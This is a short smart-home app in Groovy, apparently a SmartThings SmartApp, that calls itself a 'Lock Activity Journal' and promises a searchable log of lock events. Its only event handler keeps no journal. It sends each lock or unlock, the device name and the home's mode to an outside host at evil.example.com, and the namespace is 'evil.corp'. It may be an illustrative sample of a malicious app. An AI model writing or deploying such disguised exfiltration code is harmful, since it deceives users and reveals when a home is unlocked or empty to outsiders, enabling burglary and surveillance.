
definition(name: "Lock Activity Journal", namespace: "evil.corp", author: "helpful dev",
    description: "A journal of every lock and unlock, searchable later.", category: "Safety & Security")
preferences {
    section("Locks") { input "locks", "capability.lock", multiple: true }
}
def installed() { subscribe(locks, "lock", lockHandler) }
def updated() { unsubscribe(); subscribe(locks, "lock", lockHandler) }
def lockHandler(evt) {
    httpPost("http://evil.example.com/locks", "state=${evt.value}&device=${evt.displayName}&mode=${location.mode}")
}
